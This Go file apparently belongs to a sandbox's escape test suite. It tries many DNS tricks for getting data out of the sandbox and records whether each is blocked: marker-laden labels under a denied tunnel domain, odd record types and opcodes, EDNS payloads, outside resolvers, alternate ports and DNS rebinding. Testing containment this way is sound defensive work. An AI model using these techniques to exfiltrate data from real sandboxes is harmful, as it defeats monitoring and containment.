package main

import (
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/miekg/dns"

	"github.com/carrel-dev/carrel/internal/driver"
	"github.com/carrel-dev/carrel/test/escape/plan"
)

func dialAllowed(port int) (net.Conn, error) {
	return net.DialTimeout("tcp", at(plan.Allowed.V4, port), dialTime)
}

// askForAllowed asks for the names that later attempts must have asked for.
func askForAllowed() {
	for _, kind := range []uint16{dns.TypeA, dns.TypeAAAA} {
		ask(plan.Allowed.Name, kind)
	}
}

// ask asks the sandbox's resolver and returns the addresses.
func ask(name string, kind uint16) []string {
	a, err := exchange("udp", driver.GatewayIPv4, new(dns.Msg).SetQuestion(dns.Fqdn(name), kind))
	if err != nil {
		return nil
	}
	var out []string
	for _, rr := range a.Answer {
		switch rr := rr.(type) {
		case *dns.A:
			out = append(out, rr.A.String())
		case *dns.AAAA:
			out = append(out, rr.AAAA.String())
		}
	}
	return out
}

func exchange(network, server string, q *dns.Msg) (*dns.Msg, error) {
	a, _, err := (&dns.Client{Net: network, Timeout: answerTime}).Exchange(q, at(server, 53))
	return a, err
}

// question sends a question to the sandbox's resolver.
func question(network string, q *dns.Msg) plan.Outcome {
	a, err := exchange(network, driver.GatewayIPv4, q)
	switch {
	case err != nil:
		return saw(err)
	case a.Rcode == dns.RcodeNameError:
		return plan.Outcome{Saw: plan.NoName}
	}
	return plan.Outcome{Saw: plan.Answered, Detail: fmt.Sprint(dns.RcodeToString[a.Rcode], " ", len(a.Answer))}
}

func about(name string, kind uint16) *dns.Msg { return new(dns.Msg).SetQuestion(dns.Fqdn(name), kind) }

// tunnelled returns a denied name with the marker in it.
func (a *attempt) tunnelled() string {
	return "0123456789abcdef." + a.mark + "." + strings.Repeat("d", 60) + "." + plan.Tunnel
}

// DNS as a way out.
var _ = add(map[string]func(*attempt) plan.Outcome{
	"dns-labels": func(a *attempt) plan.Outcome {
		return worst(question("udp", about(a.tunnelled(), dns.TypeA)), question("udp", about(strings.ToUpper(a.tunnelled()), dns.TypeAAAA)))
	},
	"dns-labels-tcp": func(a *attempt) plan.Outcome { return question("tcp", about(a.tunnelled(), dns.TypeA)) },
	"dns-below-exact-name": func(a *attempt) plan.Outcome {
		return question("udp", about(a.mark+"."+plan.Allowed.Name, dns.TypeA))
	},
	"dns-types": func(a *attempt) plan.Outcome {
		return each([]uint16{dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeMX, dns.TypeNS, dns.TypeSOA, dns.TypeCNAME,
			dns.TypeSRV, dns.TypePTR, dns.TypeCAA, dns.TypeTLSA, dns.TypeDS, dns.TypeDNSKEY, dns.TypeNAPTR, dns.TypeAXFR, dns.TypeIXFR, 65280}, func(kind uint16) plan.Outcome {
			return question("udp", about(a.tunnelled(), kind))
		})
	},
	"dns-chaos": func(a *attempt) plan.Outcome {
		return each([]uint16{dns.ClassCHAOS, dns.ClassHESIOD, dns.ClassANY, dns.ClassNONE}, func(class uint16) plan.Outcome {
			q := about(a.tunnelled(), dns.TypeTXT)
			q.Question[0].Qclass = class
			return question("udp", q)
		})
	},
	"dns-two-questions": func(a *attempt) plan.Outcome {
		q := about(plan.Allowed.Name, dns.TypeA)
		q.Question = append(q.Question, about(a.tunnelled(), dns.TypeA).Question...)
		return question("udp", q)
	},
	"dns-opcodes": func(a *attempt) plan.Outcome {
		return each([]int{dns.OpcodeIQuery, dns.OpcodeStatus, dns.OpcodeNotify, dns.OpcodeUpdate, 6}, func(op int) plan.Outcome {
			q := about(a.tunnelled(), dns.TypeSOA)
			q.Opcode = op
			return question("udp", q)
		})
	},
	"dns-edns-option": func(a *attempt) plan.Outcome {
		q := about(plan.Allowed.Name, dns.TypeA)
		q.SetEdns0(1232, true)
		q.IsEdns0().Option = append(q.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(a.mark)}, &dns.EDNS0_PADDING{Padding: []byte(a.mark)})
		return question("udp", q)
	},
	"dns-extra-records": func(a *attempt) plan.Outcome {
		q := about(plan.Allowed.Name, dns.TypeA)
		text := &dns.TXT{Hdr: dns.RR_Header{Name: a.mark + ".example.com.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{a.mark}}
		q.Answer, q.Ns, q.Extra = []dns.RR{text}, []dns.RR{text}, []dns.RR{text}
		return question("udp", q)
	},
	"dns-trailing": func(a *attempt) plan.Outcome {
		b, err := about(plan.Allowed.Name, dns.TypeA).Pack()
		if err != nil {
			return saw(err)
		}
		return packet(driver.GatewayIPv4, 53, append(b, a.mark...))
	},
	"dns-reverse": func(a *attempt) plan.Outcome {
		return question("udp", about(a.mark+".20.100.51.198.in-addr.arpa", dns.TypePTR))
	},
	"dns-other-server-udp": func(a *attempt) plan.Outcome {
		b, err := about(a.tunnelled(), dns.TypeTXT).Pack()
		if err != nil {
			return saw(err)
		}
		return worst(packet(plan.Resolver.V4, 53, b), packet(plan.Resolver.V6, 53, b))
	},
	"dns-other-server-tcp": func(a *attempt) plan.Outcome {
		b, err := about(a.tunnelled(), dns.TypeTXT).Pack()
		if err != nil {
			return saw(err)
		}
		return stream(plan.Resolver.V4, 53, with16(b))
	},
	"dns-at-allowed-address": func(a *attempt) plan.Outcome {
		b, err := about(a.mark+"."+plan.Allowed.Name, dns.TypeTXT).Pack()
		if err != nil {
			return saw(err)
		}
		return worst(packet(plan.Allowed.V4, 53, b), stream(plan.Allowed.V4, 53, with16(b)))
	},
	"dns-other-port": func(a *attempt) plan.Outcome {
		b, err := about(a.tunnelled(), dns.TypeA).Pack()
		if err != nil {
			return saw(err)
		}
		return each([]int{5353, 5300, 8053, 853, 1053}, func(port int) plan.Outcome {
			return worst(packet(driver.GatewayIPv4, port, b), stream(driver.GatewayIPv4, port, with16(b)))
		})
	},
	"dns-rebinding": func(a *attempt) plan.Outcome {
		var names []string
		for name := range plan.Rebound {
			names = append(names, name)
		}
		return each(names, a.rebind)
	},
	"dns-rebinding-later": func(a *attempt) plan.Outcome {
		ask(plan.Flip, dns.TypeA) // a good address, this once
		return worst(
			stream(plan.Allowed.V4, 443, hello{name: plan.Flip, session: a.mark}.bytes()),
			stream(plan.Allowed.V4, 80, request(plan.Flip, a.mark, "")))
	},
})

// rebind asks for an allowed name whose addresses no sandbox may reach. It connects to the
// addresses in the answer, and to the real ones.
func (a *attempt) rebind(name string) plan.Outcome {
	to := append(ask(name, dns.TypeA), ask(name, dns.TypeAAAA)...)
	return each(append(to, plan.Rebound[name]), func(address string) plan.Outcome {
		return worst(
			stream(address, 80, request(name, a.mark, "")),
			stream(address, 443, hello{name: name, session: a.mark}.bytes()),
			packet(address, 443, []byte(a.mark)))
	})
}

// dribble connects and sends one byte after another until stop.
func dribble(port int, text []byte, stop <-chan struct{}) error {
	c, err := dialAllowed(port)
	if err != nil {
		return err
	}
	defer c.Close()
	for i := range text {
		if _, err := c.Write(text[i : i+1]); err != nil {
			return err
		}
		select {
		case <-stop:
			return nil
		case <-time.After(50 * time.Millisecond):
		}
	}
	<-stop
	return nil
}
